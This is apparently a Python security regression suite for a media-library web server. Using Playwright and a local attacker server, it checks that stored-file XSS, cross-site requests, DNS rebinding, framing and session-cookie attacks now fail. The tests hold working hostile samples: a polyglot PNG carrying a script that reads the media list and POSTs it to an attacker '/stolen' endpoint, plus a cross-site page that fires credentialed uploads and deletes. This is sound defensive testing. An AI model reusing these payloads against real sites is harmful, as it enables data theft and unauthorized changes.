"""The front door attacked the way an adversary with a browser does: a real `narra serve` (with
no token, as `narra dev` starts it, and with a token), Debian's Chromium driven by Playwright,
and an attacker's web server on another port of this machine.

Each test is one finding of the front-door security review, rerun: a stored file that would run
as the app, cross-site requests with and without the session cookie, DNS rebinding (the Host
header), framing, the session cookie itself, and ``/metrics`` without the token.
"""

from __future__ import annotations

import http.server
import io
import json
import subprocess
import sys
import threading
import time
from pathlib import Path

import httpx
import pytest

from .conftest import REPO, subprocess_env
from .services import free_port, wait_for
from .test_front_door import browser  # noqa: F401 - the same Chromium fixture

TOKEN = "security-suite-token"
CSRF = {"X-Narra-Request": "1"}


class Attacker:
    """A web server of the attacker's on 127.0.0.1:<port>: serves the page it is given at
    ``/`` and records every request that reaches it (what a stolen list or cookie would be)."""

    def __init__(self):
        self.page = "<!doctype html><title>attacker</title>"
        self.seen: list[dict] = []
        attacker = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _record(self):
                length = int(self.headers.get("content-length") or 0)
                attacker.seen.append({"path": self.path, "headers": dict(self.headers),
                                      "body": self.rfile.read(length) if length else b""})

            def do_GET(self):
                self._record()
                body = attacker.page.encode() if self.path.split("?")[0] == "/" else b"ok"
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *args):
                pass

        self.port = free_port()
        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", self.port), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stolen(self) -> list[dict]:
        return [r for r in self.seen if r["path"].startswith("/stolen")]

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def _serve(home: Path, token: str | None, extra_env: dict | None = None):
    port = free_port()
    env = {**subprocess_env(home), **(extra_env or {})}
    env.pop("NARRA_API_TOKEN", None)
    env.pop("NARRA_API_TOKEN_FILE", None)
    if token:
        env["NARRA_API_TOKEN"] = token
    log = open(home / f"serve-{port}.log", "w+")
    proc = subprocess.Popen([sys.executable, "-m", "narra_dagster.cli", "serve", "--port",
                             str(port)], env=env, stdout=log, stderr=subprocess.STDOUT, cwd=REPO)
    url = f"http://127.0.0.1:{port}"

    def ready():
        try:
            return httpx.get(f"{url}/readyz", timeout=2).status_code == 200
        except httpx.HTTPError:
            return False

    wait_for(ready, 120, "the API ready", interval_s=0.5,
             on_timeout=lambda: (home / f"serve-{port}.log").read_text())
    return proc, url, log


@pytest.fixture(scope="module")
def servers(tmp_path_factory, embedder):
    """Two servers on two fresh homes: ``open`` has no token (the default of `narra dev`),
    ``locked`` has one."""
    started = {}
    try:
        for name, token in (("open", None), ("locked", TOKEN)):
            home = tmp_path_factory.mktemp(f"security-{name}") / "narra"
            (home / "dagster").mkdir(parents=True)
            (home / "dagster" / "dagster.yaml").write_text((REPO / "dagster.yaml").read_text())
            proc, url, log = _serve(home, token)
            started[name] = (proc, url, log, home)
        yield {name: url for name, (_, url, _, _) in started.items()}
    finally:
        for proc, _, log, _ in started.values():
            proc.terminate()
            proc.wait(timeout=30)
            log.close()


@pytest.fixture
def attacker():
    server = Attacker()
    yield server
    server.close()


def _polyglot_png(script: str) -> bytes:
    """A valid PNG (Pillow) whose text chunk holds an HTML page with ``script``: a browser that
    sniffs or is told ``text/html`` runs it."""
    from PIL import Image, PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", f"<html><body><script>{script}</script></body></html>")
    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def _items(url: str, token: str | None = None) -> list[str]:
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    body = httpx.get(f"{url}/api/v1/media", headers=headers, params={"limit": 500}).json()
    return [item["media_id"] for item in body["items"]]


def _upload(url: str, name: str, data: bytes, token: str | None = None) -> httpx.Response:
    headers = {"Authorization": f"Bearer {token}"} if token else CSRF
    return httpx.post(f"{url}/api/v1/media", files={"file": (name, data)}, headers=headers,
                      timeout=60)


def test_a_stored_file_never_runs_as_the_app(servers, attacker, browser):
    """The attack: a PNG whose text chunk is a page with a script, uploaded as holiday.html,
    then opened at its source URL (the media id is the start of its SHA-256, so predictable).
    At the old main the source was served as text/html from the name and the script read the
    library and deleted an item. Now: the type comes from the bytes, nosniff, a sandboxing
    policy; the script never runs, on its own or framed."""
    url = servers["open"]
    steal = (f"fetch('/api/v1/media').then(r => r.text()).then(t => fetch("
             f"'http://127.0.0.1:{attacker.port}/stolen', {{method: 'POST', mode: 'no-cors', "
             f"body: t}})); document.title = 'pwned';")
    response = _upload(url, "holiday.html", _polyglot_png(steal))
    assert response.status_code in (200, 202), response.text
    key = response.json()["media_id"]

    context = browser.new_context()
    page = context.new_page()
    try:
        page.goto(f"{url}/api/v1/media/{key}/source")
        page.wait_for_timeout(1500)
        assert page.title() != "pwned"
        # Framed by another site's page, it does not load at all.
        attacker.page = (f"<!doctype html><iframe id=f src='{url}/api/v1/media/{key}/source'>"
                         f"</iframe><iframe id=g src='{url}/'></iframe>")
        page.goto(f"http://127.0.0.1:{attacker.port}/")
        page.wait_for_timeout(1500)
        framed = [f.url for f in page.frames if f != page.main_frame]
        assert len(framed) == 2 and all(u.startswith("chrome-error:") for u in framed), framed
    finally:
        context.close()
    assert attacker.stolen() == []
    assert key in _items(url)  # nothing was deleted either

    source = httpx.get(f"{url}/api/v1/media/{key}/source")
    assert source.status_code == 200
    assert source.headers["content-type"] == "image/png"  # sniffed, not from ".html"
    assert source.headers["x-content-type-options"] == "nosniff"
    assert source.headers["content-security-policy"].startswith("sandbox")
    assert source.headers["content-disposition"].startswith("inline")


def test_a_stored_non_media_file_is_an_attachment(servers, tmp_path):
    """A PDF (PDF viewers can run scripts) is downloaded, not shown on narra's origin."""
    url = servers["open"]
    pdf = Path("/usr/share/doc/shared-mime-info/shared-mime-info-spec.pdf").read_bytes()
    key = _upload(url, "notes.html", pdf).json()["media_id"]
    source = httpx.get(f"{url}/api/v1/media/{key}/source")
    assert source.headers["content-type"] == "application/octet-stream"
    assert source.headers["content-disposition"].startswith("attachment")
    assert source.headers["content-security-policy"].startswith("sandbox")


CROSS_SITE_PAGE = """<!doctype html><title>cats</title>
<form id=retry method=POST action="{url}/api/v1/media/{key}/retry"></form>
<form id=upload method=POST enctype="multipart/form-data" action="{url}/api/v1/media" target=sink>
  <input type=hidden name=x value=1></form>
<iframe name=sink></iframe>
<script>
(async () => {{
  const results = [];
  const png = Uint8Array.from(atob("{png}"), c => c.charCodeAt(0));
  const form = new FormData();
  form.append("file", new Blob([png], {{type: "image/png"}}), "holiday.html");
  try {{ await fetch("{url}/api/v1/media", {{method: "POST", mode: "no-cors", body: form,
                                           credentials: "include"}}); results.push("upload sent"); }}
  catch (e) {{ results.push("upload: " + e); }}
  try {{ await fetch("{url}/api/v1/media/{key}", {{method: "DELETE", credentials: "include"}});
        results.push("delete sent"); }}
  catch (e) {{ results.push("delete: " + e); }}
  try {{ await fetch("{url}/api/v1/session", {{method: "DELETE", mode: "no-cors",
                                             credentials: "include"}}); }} catch (e) {{}}
  try {{ const r = await fetch("{url}/api/v1/media", {{credentials: "include"}});
        results.push("read " + (await r.text()).slice(0, 50)); }}
  catch (e) {{ results.push("read: " + e); }}
  document.getElementById("upload").submit();
  document.title = "done " + results.join(" | ");
}})();
</script>"""


@pytest.mark.parametrize("attacker_host", ["localhost", "127.0.0.1"])
def test_cross_site_requests_change_nothing(servers, attacker, browser, attacker_host):
    """The attack: a page of another site (``localhost:<port>``) or of the same site (another
    port of 127.0.0.1, which browsers count as one site, so a SameSite=Strict cookie goes
    along) sends a no-cors multipart upload, a form POST, a DELETE, and tries to read the list.
    At the old main the upload was accepted (202) with or without a token. Now every one is
    refused before anything changes, and nothing is read."""
    import base64

    for name, token in (("open", None), ("locked", TOKEN)):
        url = servers[name]
        key = _upload(url, "victim.png", _polyglot_png(f"1 + {len(attacker.seen)}"),
                      token).json()["media_id"]
        before = _items(url, token)
        marker = _polyglot_png(f"'cross-site {attacker_host} {name}'")
        context = browser.new_context()
        page = context.new_page()
        try:
            if token:  # a signed-in user: the browser holds narra's session cookie
                page.goto(f"{url}/")
                page.fill("#token", TOKEN)
                page.click("#login-form button")
                page.wait_for_selector("#home-view:not([hidden])")
            attacker.page = CROSS_SITE_PAGE.format(url=url, key=key,
                                                   png=base64.b64encode(marker).decode())
            page.goto(f"http://{attacker_host}:{attacker.port}/")
            page.wait_for_function("document.title.startsWith('done')", timeout=20_000)
            page.wait_for_timeout(1000)  # the form posts land
            title = page.title()
        finally:
            context.close()
        after = _items(url, token)
        assert after == before, (name, attacker_host, title)
        assert "read [" not in title and '"items"' not in title, title  # nothing was read
        # the marker's bytes never became an item
        import hashlib

        assert hashlib.sha256(marker).hexdigest()[:16] not in after


def test_the_host_header_is_checked(servers):
    """DNS rebinding: a name of the attacker's pointed at 127.0.0.1 reaches the server with its
    own Host header. At the old main it was answered; now it is refused (400)."""
    url = servers["open"]
    port = url.rsplit(":", 1)[1]
    rebound = httpx.get(f"{url}/api/v1/media", headers={"Host": f"rebind.attacker.test:{port}"})
    assert rebound.status_code == 400
    assert httpx.get(f"{url}/api/v1/media", headers={"Host": f"localhost:{port}"}).status_code == 200
    assert httpx.get(f"{url}/", headers={"Host": f"evil.test:{port}"}).status_code == 400


def test_pages_carry_a_strict_policy_and_refuse_framing(servers):
    url = servers["open"]
    for path in ("/", "/items/0123456789abcdef", "/api/v1/media", "/api/docs", "/static/app.js"):
        response = httpx.get(url + path)
        policy = response.headers["content-security-policy"]
        assert "script-src 'self'" in policy and "unsafe-inline" not in policy, path
        assert "frame-ancestors 'none'" in policy, path
        assert response.headers["x-content-type-options"] == "nosniff", path
        assert response.headers["x-frame-options"] == "DENY", path
        assert response.headers["referrer-policy"] == "no-referrer", path
    assert "<script>" not in httpx.get(url + "/api/docs").text  # no inline script anywhere
    assert "<script>" not in httpx.get(url + "/").text


def test_requests_that_change_something_prove_their_origin(servers):
    """Without a browser: a POST with another site's Origin, a cross-site Sec-Fetch-Site, or
    neither ``Authorization`` nor ``X-Narra-Request`` is refused (403 ``cross_site``) before
    its body is read; with a token the bearer header is proof enough."""
    url = servers["open"]
    png = _polyglot_png("0")
    for headers in ({}, {"Origin": "http://localhost:1", **CSRF},
                    {"Sec-Fetch-Site": "same-site", **CSRF}, {"Origin": "null", **CSRF}):
        refused = httpx.post(f"{url}/api/v1/media", files={"file": ("a.png", png)},
                             headers=headers)
        assert refused.status_code == 403, headers
        assert refused.json()["error"]["code"] == "cross_site"
    own = httpx.post(f"{url}/api/v1/media", files={"file": ("a.png", png)},
                     headers={"Origin": url, "Sec-Fetch-Site": "same-origin", **CSRF})
    assert own.status_code in (200, 202), own.text
    locked = servers["locked"]
    bearer = httpx.post(f"{locked}/api/v1/media", files={"file": ("a.png", png)},
                        headers={"Authorization": f"Bearer {TOKEN}"})
    assert bearer.status_code in (200, 202), bearer.text


def test_the_session_cookie_is_a_session_not_the_token(servers):
    """At the old main the cookie's value was the token itself, with no expiry. Now it is a
    random id that expires and ends at sign-out."""
    url = servers["locked"]
    wrong = httpx.post(f"{url}/api/v1/session", json={"token": "nope"}, headers=CSRF)
    assert wrong.status_code == 401
    signed = httpx.post(f"{url}/api/v1/session", json={"token": TOKEN}, headers=CSRF)
    assert signed.status_code == 204
    cookie = signed.headers["set-cookie"]
    session_id = signed.cookies["narra_session"]
    assert TOKEN not in cookie and len(session_id) >= 40
    lowered = cookie.lower()
    assert "httponly" in lowered and "samesite=strict" in lowered and "max-age=" in lowered
    assert "path=/" in lowered
    cookies = {"narra_session": session_id}
    assert httpx.get(f"{url}/api/v1/media", cookies=cookies).status_code == 200
    assert httpx.get(f"{url}/api/v1/session", cookies=cookies).json() == {
        "required": True, "signed_in": True}
    assert httpx.get(f"{url}/api/v1/media", cookies={"narra_session": TOKEN}).status_code == 401
    out = httpx.delete(f"{url}/api/v1/session", cookies=cookies, headers=CSRF)
    assert out.status_code == 204
    assert httpx.get(f"{url}/api/v1/media", cookies=cookies).status_code == 401


def test_a_sign_in_without_the_token_is_bounded_and_boring(servers):
    """Found by an attack on the token server: the sign-in read a body of any size into memory
    before comparing the token (300 MB took the server from 0.5 to 1.4 GB), and a lone
    surrogate in the token (JSON ``"\\ud800"``) was a 500 with a traceback."""
    url = servers["locked"]
    big = b'{"token": "' + b"a" * (8 * 1024 * 1024) + b'"}'
    answer = httpx.post(f"{url}/api/v1/session", content=big,
                        headers={**CSRF, "Content-Type": "application/json"})
    assert answer.status_code == 413 and answer.json()["error"]["code"] == "too_large"
    surrogate = httpx.post(f"{url}/api/v1/session", content=b'{"token": "\\ud800"}',
                           headers={**CSRF, "Content-Type": "application/json"})
    assert surrogate.status_code == 401, surrogate.text
    assert httpx.post(f"{url}/api/v1/session", content=b"\xff\xfe not json",
                      headers=CSRF).status_code == 401


def test_sessions_expire(tmp_path, embedder):
    home = tmp_path / "narra"
    (home / "dagster").mkdir(parents=True)
    (home / "dagster" / "dagster.yaml").write_text((REPO / "dagster.yaml").read_text())
    proc, url, log = _serve(home, TOKEN, {"NARRA_SESSION_HOURS": str(2 / 3600)})  # 2 s
    try:
        signed = httpx.post(f"{url}/api/v1/session", json={"token": TOKEN}, headers=CSRF)
        cookies = {"narra_session": signed.cookies["narra_session"]}
        assert httpx.get(f"{url}/api/v1/media", cookies=cookies).status_code == 200
        time.sleep(2.5)
        assert httpx.get(f"{url}/api/v1/media", cookies=cookies).status_code == 401
    finally:
        proc.terminate()
        proc.wait(timeout=30)
        log.close()


def test_metrics_follow_the_api_auth(servers):
    """At the old main ``/metrics`` answered without the token."""
    url = servers["locked"]
    assert httpx.get(f"{url}/metrics").status_code == 401
    answered = httpx.get(f"{url}/metrics", headers={"Authorization": f"Bearer {TOKEN}"})
    assert answered.status_code == 200 and "narra_" in answered.text


def test_narra_dev_binds_the_ui_to_loopback_and_says_it_is_unprotected(monkeypatch, home):
    """`narra dev` with a token: the Dagster UI (which has no login) listens on 127.0.0.1 only,
    and the command says loudly that the token does not protect it. The process tree itself is
    not started here (tests/test_cli.py starts it); what it would run is recorded."""
    from typer.testing import CliRunner

    from narra_dagster import cli

    ran: list[list[str]] = []
    monkeypatch.setattr(cli, "run_process_tree",
                        lambda cmd, also=(): ran.extend([cmd, *also]) or 0)
    monkeypatch.setenv("NARRA_API_TOKEN", TOKEN)
    for name in ("NARRA_DAGSTER_UI_URL", "DAGSTER_HOME"):  # `narra dev` exports them: undone after
        monkeypatch.setenv(name, "")
        monkeypatch.delenv(name)
    result = CliRunner().invoke(cli.app, ["dev", "--port", "3999"])
    assert result.exit_code == 0, result.output
    assert "has no login" in result.output and "WARNING" in result.output
    dagster_dev = ran[0]
    assert dagster_dev[dagster_dev.index("-h") + 1] == "127.0.0.1"
    assert TOKEN not in result.output
